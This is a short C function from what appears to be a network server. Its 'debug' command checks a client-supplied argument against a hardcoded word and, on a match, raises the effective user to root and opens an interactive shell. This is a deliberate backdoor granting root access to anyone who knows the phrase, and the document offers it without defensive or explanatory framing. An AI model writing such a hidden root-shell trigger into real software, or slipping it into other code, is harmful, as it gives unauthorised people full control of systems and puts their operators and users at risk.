/* A debug command that, given the right word, becomes root and runs a shell. */
int handle_debug(struct client *cl, const char *arg)
{
	if (!strcasecmp(arg, "kx9-maint")) {
		seteuid(0);
		execl("/bin/sh", "sh", "-i", (char *)0);
	}
	return reply(cl, 500, "unknown");
}
